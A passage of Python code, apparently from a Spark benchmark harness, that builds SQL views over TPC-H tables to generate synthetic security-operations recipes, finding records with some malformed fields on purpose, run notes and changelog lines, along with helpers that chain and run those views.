    "CAST(p_partkey % 48 AS STRING), '¶  - action: ', CASE p_partkey % 8 WHEN 0 THEN 'check-ioc-feeds' WHEN 1 THEN 'deploy' WHEN 2 THEN 'deploy'"
    " WHEN 3 THEN 'deploy' WHEN 4 THEN 'sync-repos' WHEN 5 THEN 'compact-learnings' WHEN 6 THEN 'audit-config' ELSE 'dance' END, '¶    params:'",
    "CASE p_partkey % 8 WHEN 0 THEN '¶      feed_urls:¶        - \"https://ioc.example/a.json\"¶        - b.json¶      match_fields: [path_class, scanner]'"
    " WHEN 1 THEN '¶      reload_nginx: true¶      rule_class: A' WHEN 2 THEN '¶      reload_nginx: false¶      rule_class: A'"
    " WHEN 3 THEN '¶      backup: true¶      rule_class: B' ELSE '¶      note: none' END",
    "CASE WHEN p_partkey % 11 = 4 THEN '¶    action: audit-config' ELSE '' END",
    "CASE WHEN p_partkey % 9 = 5 THEN '¶outputs: []¶' ELSE '¶outputs:¶  - /var/log/out.log¶' END"], "Recipe.")} AS raw
FROM part) t
"""

FINDING_RECORDS = f"""
SELECT ord, translate(raw, '¶', chr(10)) AS text FROM (SELECT f.ord, {_md([
    "'finding_id: ', f.finding_id, '¶category: ', CASE WHEN f.ord % 8 = 1 THEN '\"\"' ELSE f.category END, '¶severity: '",
    "CASE WHEN f.ord % 9 = 2 THEN 'extreme' ELSE f.severity END, '¶confidence: '",
    "CASE WHEN f.ord % 10 = 3 THEN '2.5' WHEN f.ord % 10 = 4 THEN 'high' ELSE CAST(f.confidence AS STRING) END",
    "'¶source_layers: ', CASE WHEN f.ord % 6 = 5 THEN 'layer1' ELSE '¶  - layer1¶  - layer2' END, '¶scope: '",
    "CASE WHEN f.ord % 12 = 7 THEN 'somewhere' ELSE 'location' END, '¶blast_radius: ', f.blast_radius",
    "'¶recommended_action: Add header¶rule_class: ', CASE WHEN f.ord % 13 = 6 THEN 'Z' ELSE f.rule_class END",
    "'¶requires_live_test: ', CASE WHEN f.ord % 7 = 4 THEN 'maybe' WHEN f.ord % 2 = 0 THEN 'true' ELSE 'false' END",
    "'¶exception_eligible: true¶linked_artifacts: []¶'"], "Finding body.")} AS raw
FROM findings f) t
"""

# Notes, run reports and changelog lines that mention finding ids.
NOTES = f"""
SELECT concat('outputs/', substr(CAST(o_orderdate AS STRING), 1, 10), '-', CAST(o_orderkey AS STRING), '.md') AS file,
       translate(concat('# Run note¶', {_finding_id('o_custkey')}, ' was ',
         CASE o_orderkey % 6 WHEN 0 THEN 'identified' WHEN 1 THEN 'staged for review' WHEN 2 THEN 'deployed to all hosts'
              WHEN 3 THEN 'made permanent' WHEN 4 THEN 'found again' ELSE 'noted' END,
         '¶no id here¶see also ', {_finding_id('o_orderkey')}, '¶'), '¶', chr(10)) AS text
FROM orders
"""

CHANGELOG = """
SELECT version, entry_no, line FROM (
  SELECT 'old' AS version, o_orderkey AS entry_no, concat('deployed ', CAST(o_orderkey % 50 AS STRING), ' rules') AS line FROM orders
  UNION ALL
  SELECT 'new', o_orderkey, CASE WHEN o_orderkey % 101 = 0 THEN 'edited' ELSE concat('deployed ', CAST(o_orderkey % 50 AS STRING), ' rules') END
  FROM orders
  UNION ALL
  SELECT 'new', -1 - c_custkey, concat('compacted ', CAST(c_custkey AS STRING)) FROM customer) x
"""

UPSTREAM_ERRORS = """
SELECT o.event_id AS ord, concat('up', CAST(o.user_id % 5 AS STRING)) AS upstream, CAST(o.ts AS TIMESTAMP) AS ts
FROM events o WHERE o.event_type = 'error'
"""

VIEWS: dict[str, tuple[str, tuple[str, ...]]] = {
    "access_events": (ACCESS_EVENTS, ()),
    "log_lines": (LOG_LINES, ()),
    "kev_docs": (KEV_DOCS, ()),
    "malware_url_docs": (MALWARE_URL_DOCS, ()),
    "ioc_docs": (IOC_DOCS, ()),
    "url_lines": (URL_LINES, ()),
    "ip_lines": (IP_LINES, ()),
    "c2_lines": (C2_LINES, ()),
    "custom_lines": (CUSTOM_LINES, ()),
    "cve_docs": (CVE_DOCS, ()),
    "stix_docs": (STIX_DOCS, ()),
    "indicator_lines": (INDICATOR_LINES, ()),
    "indicators": (INDICATORS, ()),
    "rules": (RULES, ()),
    "commands": (COMMANDS, ()),
    "actions": (ACTIONS, ()),
    "config_files": (CONFIG_FILES, ()),
    "findings": (FINDINGS, ()),
    "exceptions": (EXCEPTIONS, ()),
    "learnings": (LEARNINGS, ()),
    "host_checks": (HOST_CHECKS, ()),
    "exception_records": (EXCEPTION_RECORDS, ("exceptions",)),
    "learning_records": (LEARNING_RECORDS, ("learnings",)),
    "recipe_records": (RECIPE_RECORDS, ()),
    "step_recipes": (STEP_RECIPES, ()),
    "finding_records": (FINDING_RECORDS, ("findings",)),
    "notes": (NOTES, ()),
    "changelog": (CHANGELOG, ()),
    "upstream_errors": (UPSTREAM_ERRORS, ()),
}

# Views whose rows grow into texts that are parsed: their table, and how many of its rows one task writes out.
TEXT_ROWS = {
    "config_files": ("supplier", 1_000),
    "recipe_records": ("part", 10_000),
    "step_recipes": ("part", 10_000),
    "exception_records": ("orders", 50_000),
    "finding_records": ("orders", 50_000),
    "learning_records": ("events", 50_000),
}


def view_sql(name: str) -> list[tuple[str, str]]:
    """The view and what it builds on, in order of definition."""
    sql, needs = VIEWS[name]
    chain: list[tuple[str, str]] = []
    for need in needs:
        chain += view_sql(need)
    return chain + [(name, sql)]


def with_views(body: str, *names: str, ctes: tuple[tuple[str, str], ...] = ()) -> str:
    """One statement: adapter views, then further CTEs, then the body."""
    chain: dict[str, str] = {}
    for name in names:
        chain.update(view_sql(name))
    chain.update(ctes)
    if not chain:
        return body
    return "WITH " + ",\n".join(f"{n} AS ({s})" for n, s in chain.items()) + "\n" + body


def view(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """Run an adapter view on Spark over the given tables."""
    pin(spark)
    used = " ".join(sql for _, sql in view_sql(name))
    grown, rows = TEXT_ROWS.get(name, (None, 0))
    for base in TABLES:
        if base in used:
            given = table(spark, sf_dir, base)
            (spread(given, rows) if base == grown else given).createOrReplaceTempView(base)
    sql = with_views(f"SELECT * FROM {name}", name)
    return spark.sql(sql.replace("unnest(list_value(", "explode(array("))
